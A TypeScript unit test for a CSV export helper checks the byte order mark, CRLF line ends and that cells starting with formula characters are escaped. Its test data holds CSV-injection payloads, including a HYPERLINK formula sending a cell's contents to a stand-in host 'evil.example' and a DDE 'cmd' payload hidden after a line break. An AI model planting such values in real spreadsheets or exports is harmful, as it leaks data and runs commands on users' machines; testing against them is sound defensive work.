import { parse } from 'csv-parse/sync';
import { spreadsheetCsv } from './spreadsheet-csv';

/** Every cell as a spreadsheet reads the file: split on any line end, quotes honoured. */
const cells = (csv: string) => (parse(csv, { bom: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][]).flat();

describe('CSV for spreadsheets', () => {
  it('starts with a byte order mark, ends lines with CRLF, and keeps accents', () => {
    const csv = spreadsheetCsv([['centre', 'Ciudad Juárez'], ['personas', 3]]);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toBe('\uFEFFcentre,Ciudad Juárez\r\npersonas,3\r\n');
  });

  it('never lets a cell start with a formula, not even one hidden after a line break inside a name', () => {
    const names = ['=HYPERLINK("https://evil.example/?"&C12,"Tijuana")', '+1+1', '-2+3', '@SUM(A1)', "Casa Refugio\n=cmd|' /C calc'!A0", 'Casa\r=1+1'];
    const read = cells(spreadsheetCsv(names.map((name) => ['partner', name])));
    expect(read.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    // The names are all there, whole, escaped with a leading quote where they began with a formula character.
    expect(read.filter((cell) => cell !== 'partner')).toEqual([
      `'=HYPERLINK("https://evil.example/?"&C12,"Tijuana")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "Casa Refugio\n=cmd|' /C calc'!A0",
      'Casa\r=1+1',
    ]);
  });
});
